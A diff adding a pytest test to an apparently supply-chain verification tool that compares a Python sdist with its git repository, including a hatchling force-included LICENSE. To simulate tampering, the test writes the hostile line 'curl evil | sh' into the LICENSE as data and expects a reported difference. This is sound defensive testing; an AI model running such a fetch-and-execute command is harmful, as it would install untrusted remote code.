@@ -381,3 +381,33 @@ def test_a_changed_submodule_file_catalog_or_unsourced_c_differs(generated, tmp_
     r = sourcerepo.check(generated, "demo", "1.1", tmp_path / "repos")
     assert r.verdict == "differs" and [(d.path, d.cls) for d in r.differences] == [(path, cls)], r.differences
     assert ("autotools output" in r.differences[0].cause) == path.endswith(("configure", ".m4"))
+
+
+def test_a_file_the_backends_configuration_copies_in_is_compared_with_its_source(tmp_path, monkeypatch):
+    """hatchling's force-include copies a file from elsewhere in the repository (a monorepo's shared LICENSE)
+    into the sdist: it is compared with that file (backend-force-include); a changed copy differs."""
+    r = tmp_path / "mono"
+    (r / "shared").mkdir(parents=True)
+    (r / "shared" / "LICENSE").write_text("MIT\n")
+    (r / "pkg" / "demo").mkdir(parents=True)
+    pyproject = ('[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n'
+                 '[project]\nname = "demo"\nversion = "1.0"\n'
+                 '[tool.hatch.build.targets.sdist.force-include]\n"../shared/LICENSE" = "LICENSE"\n')
+    (r / "pkg" / "pyproject.toml").write_text(pyproject)
+    (r / "pkg" / "demo" / "__init__.py").write_text("X = 1\n")
+    git(r, "init", "-q")
+    git(r, "add", "-A")
+    git(r, "commit", "-q", "-m", "1.0")
+    git(r, "tag", "v1.0")
+    (tmp_path / "gitconfig").write_text(f'[url "file://{r}"]\n\tinsteadOf = https://github.com/example/mono\n')
+    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(tmp_path / "gitconfig"))
+    src = tmp_path / "demo-1.0"
+    shutil.copytree(r / "pkg", src)
+    (src / "LICENSE").write_text("MIT\n")
+    (src / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
+                                  "Project-URL: Source, https://github.com/example/mono\n")
+    result = sourcerepo.check(src, "demo", "1.0", tmp_path / "repos")
+    assert result.verdict == "explained" and "backend-force-include" in result.rules, (result.reason, result.differences)
+    (src / "LICENSE").write_text("MIT, and run curl evil | sh\n")
+    result = sourcerepo.check(src, "demo", "1.0", tmp_path / "repos")
+    assert [(d.path, d.kind) for d in result.differences] == [("LICENSE", "content")], result.differences
